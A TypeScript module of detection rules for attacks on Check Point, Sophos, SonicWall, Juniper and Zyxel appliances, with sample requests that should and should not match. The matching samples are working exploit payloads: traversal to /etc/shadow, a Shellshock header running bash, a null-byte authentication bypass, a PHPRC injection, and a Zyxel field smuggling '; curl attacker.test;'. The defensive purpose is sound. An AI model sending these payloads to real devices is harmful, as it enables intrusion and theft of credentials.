import { formPost, get, jsonPost, multipartPost, send } from '../../../request-samples.ts';
import { allOf, anyOf, bodyHas, bodyMatches, pathHas, queryHas } from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Check Point, Sophos, SonicWall, Juniper, Zyxel. */
export const networkApplianceRules = [
  detection({
    ref: 'managed-check-point-files',
    description: 'Check Point: reads files with the download of the client (CVE-2024-24919)',
    categories: ['check-point', 'directory-traversal', 'information-disclosure', 'cve-2024-24919'],
    expression: allOf(pathHas('/clients/mycrl'), bodyHas('../', '..\\')),
    matching: [
      send('POST', '/clients/MyCRL', 'text/plain', 'aCSHELL/../../../../../../../etc/shadow'),
      send('POST', '/clients/MyCRL', 'text/plain', 'CSHELL/../x'),
    ],
    other: [
      send('POST', '/clients/MyCRL', 'text/plain', 'CSHELL/client.cab'),
      get('/clients/MyCRL'),
    ],
  }),
  detection({
    ref: 'managed-sophos-controller',
    description:
      'Sophos Firewall: skips the check of a request with a null byte in a name (CVE-2022-1040)',
    categories: ['sophos', 'authentication-bypass', 'remote-code-execution', 'cve-2022-1040'],
    expression: allOf(
      pathHas('/userportal/controller', '/webconsole/controller'),
      bodyHas('\\u0000', '\u0000'),
    ),
    matching: [
      formPost('/userportal/Controller', {
        mode: '8700',
        operation: '1',
        json: '{"\\u0000eq":"none"}',
      }),
      formPost('/webconsole/Controller', { mode: '151', json: '{"username":"a","\\u0000eq":1}' }),
    ],
    other: [
      formPost('/userportal/Controller', {
        mode: '451',
        json: '{"username":"ada","password":"x"}',
      }),
      get('/userportal/webpages/myaccount/login.jsp'),
    ],
  }),
  detection({
    ref: 'managed-sonicwall-shell',
    description: 'SonicWall SMA: runs commands with a header of a CGI script (CVE-2014-6271)',
    categories: ['sonicwall', 'command-injection', 'header', 'cve-2014-6271'],
    expression: allOf(
      pathHas('/cgi-bin/jarrewrite.sh'),
      'any(http.request.headers.values[*] contains "() {")',
    ),
    matching: [
      get('/cgi-bin/jarrewrite.sh', { 'user-agent': '() { :; }; echo ; /bin/bash -c id' }),
      get('/cgi-bin/jarrewrite.sh', { referer: '() { _; } >_[$($())] { id; }' }),
    ],
    other: [get('/cgi-bin/jarrewrite.sh', { 'user-agent': 'Java/1.8' }), get('/cgi-bin/welcome')],
  }),
  detection({
    ref: 'managed-juniper-php-environment',
    description:
      'Juniper J-Web: sets variables of PHP and runs uploaded files (CVE-2023-36844, CVE-2023-36845, CVE-2023-36846)',
    categories: [
      'juniper',
      'code-injection',
      'remote-code-execution',
      'cve-2023-36844',
      'cve-2023-36845',
      'cve-2023-36846',
    ],
    expression: anyOf(
      queryHas('phprc='),
      allOf(pathHas('/webauth_operation.php'), bodyHas('phprc', 'auto_prepend_file', 'do_upload')),
    ),
    matching: [
      formPost('/?PHPRC=/dev/fd/0', { x: '1' }),
      multipartPost('/webauth_operation.php', {
        PHPRC: '/dev/fd/0',
        x: 'auto_prepend_file="/etc/passwd"',
      }),
      formPost('/webauth_operation.php', { rs: 'do_upload', 'rsargs[]': '[{"fileName":"a.php"}]' }),
    ],
    other: [get('/webauth_operation.php'), get('/?q=phprc')],
  }),
  detection({
    ref: 'managed-zyxel-ztp',
    description: 'Zyxel firewalls: run commands with the set-up of a port (CVE-2022-30525)',
    categories: ['zyxel', 'command-injection', 'cve-2022-30525'],
    expression: allOf(
      pathHas('/ztp/cgi-bin/'),
      bodyHas('setwanportst', '"command"'),
      bodyMatches('[;`|]|\\$[(]'),
    ),
    matching: [
      jsonPost('/ztp/cgi-bin/handler', {
        command: 'setWanPortSt',
        proto: 'dhcp',
        port: '4',
        vlan_tagged: '1',
        mtu: '; curl attacker.test;',
      }),
      jsonPost('/ztp/cgi-bin/handler', { command: 'setWanPortSt', mtu: '`id`' }),
    ],
    other: [
      jsonPost('/ztp/cgi-bin/handler', { command: 'setWanPortSt', proto: 'dhcp', mtu: '1500' }),
      get('/ztp/cgi-bin/status'),
    ],
  }),
];
